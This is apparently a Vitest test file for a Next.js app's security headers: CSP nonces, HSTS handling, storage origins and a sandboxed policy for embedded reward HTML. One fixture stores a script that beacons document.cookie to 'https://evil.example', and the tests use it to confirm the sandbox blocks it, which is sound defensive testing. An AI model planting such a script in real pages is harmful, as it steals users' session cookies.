import { NextRequest } from 'next/server';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { GET as embed } from '@/app/api/gamification/rewards/[id]/embed/route';
import { prisma } from '@/lib/server/db';
import { resetEnvCache } from '@/lib/server/env';
import { pageCsp, sandboxedHtmlCsp, storageOrigins } from '@/lib/security/headers';
import { proxy } from '@/proxy';
import { call } from '../support/http';
import { createUser, createWorld } from '../support/factories';

// Security headers (decision 62): the page CSP with a per-request nonce from proxy.ts, HSTS only over
// https, and the embed reward's own sandbox policy (decision 64).
const directives = (csp: string) =>
  Object.fromEntries(
    csp.split(';').map((d) => {
      const [name, ...values] = d.trim().split(/\s+/);
      return [name!, values.join(' ')];
    }),
  );

afterEach(() => {
  delete process.env.TRUST_PROXY;
  resetEnvCache();
});

describe('page headers from proxy.ts', () => {
  it('a fresh nonce per request, on the answer and on the request Next renders', () => {
    const one = proxy(new NextRequest('http://escola.test/homepage'));
    const two = proxy(new NextRequest('http://escola.test/homepage'));
    const csp = one.headers.get('content-security-policy')!;
    const d = directives(csp);
    const nonce = /'nonce-([^']+)'/.exec(d['script-src']!)![1]!;
    expect(nonce.length).toBeGreaterThanOrEqual(22);
    expect(two.headers.get('content-security-policy')).not.toContain(nonce);
    expect(d['script-src']).toContain("'strict-dynamic'");
    expect(d['script-src']).not.toContain('unsafe-inline');
    expect(d['frame-ancestors']).toBe("'self'");
    expect(d['object-src']).toBe("'none'");
    expect(d['base-uri']).toBe("'self'");
    expect(d['frame-src']).toBe("'self' https:");
    // Next reads the policy (and so the nonce) from the forwarded request headers
    expect(one.headers.get('x-middleware-request-content-security-policy')).toBe(csp);
    expect(one.headers.get('x-middleware-request-x-nonce')).toBe(nonce);
  });

  it('HSTS only over https; X-Forwarded-Proto counts only behind a trusted proxy', () => {
    expect(proxy(new NextRequest('https://escola.test/')).headers.get('strict-transport-security')).toMatch(
      /max-age=\d+/,
    );
    const forged = new NextRequest('http://escola.test/', { headers: { 'x-forwarded-proto': 'https' } });
    expect(proxy(forged).headers.get('strict-transport-security')).toBeNull();
    process.env.TRUST_PROXY = 'true';
    resetEnvCache();
    expect(proxy(forged).headers.get('strict-transport-security')).toMatch(/max-age=\d+/);
  });

  it('images and media: self, data:/blob: and the configured storage only', () => {
    const s3 = storageOrigins({
      STORAGE_DRIVER: 's3',
      S3_BUCKET: 'b',
      S3_PUBLIC_URL: 'https://cdn.example.com/files',
      S3_ENDPOINT: undefined,
      S3_REGION: 'sa-east-1',
      S3_FORCE_PATH_STYLE: true,
    });
    expect(s3).toEqual(['https://cdn.example.com', 'https://b.s3.sa-east-1.amazonaws.com']);
    const d = directives(pageCsp({ nonce: 'n', storage: s3 }));
    expect(d['img-src']).toBe(
      "'self' data: blob: https://cdn.example.com https://b.s3.sa-east-1.amazonaws.com",
    );
    expect(d['media-src']).toContain('https://cdn.example.com');
    expect(d['connect-src']).toContain('https://b.s3.sa-east-1.amazonaws.com');
    expect(storageOrigins({ S3_REGION: 'x', S3_FORCE_PATH_STYLE: true } as never)).toEqual([]);
  });
});

describe('embed reward frame', () => {
  let w: Awaited<ReturnType<typeof createWorld>>;
  let rewardId: string;
  beforeAll(async () => {
    w = await createWorld();
    const reward = await prisma.reward.create({
      data: {
        tenantId: w.a.id,
        name: 'Widget',
        rewardType: 'score',
        neededScore: 1,
        deliveryType: 'embed',
        embed: '<script>navigator.sendBeacon("https://evil.example", document.cookie)</script>',
      },
    });
    rewardId = reward.id;
    await prisma.rewardUnlock.create({ data: { tenantId: w.a.id, userId: w.studentA.id, rewardId } });
  });
  const get = (cookie: string) =>
    call(embed, 'GET', `/api/gamification/rewards/${rewardId}/embed`, {
      host: w.a.host,
      cookie,
      params: { id: rewardId },
    });

  it('is served as HTML with its own sandbox policy: no popups, no network, framed only by us', async () => {
    const res = await get(w.studentA.cookie);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/html');
    const csp = res.headers.get('content-security-policy')!;
    expect(csp).toBe(sandboxedHtmlCsp());
    const d = directives(csp);
    expect(d.sandbox).toBe('allow-scripts allow-presentation');
    expect(csp).not.toContain('allow-popups');
    expect(csp).not.toContain('allow-same-origin');
    expect(d['connect-src']).toBe("'none'");
    expect(d['form-action']).toBe("'none'");
    expect(d['frame-ancestors']).toBe("'self'");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('another member who did not unlock it gets 404; editors preview it', async () => {
    const other = await createUser(w.a, 'student');
    expect((await get(other.cookie)).status).toBe(404);
    expect((await get(w.adminA.cookie)).status).toBe(200);
  });
});
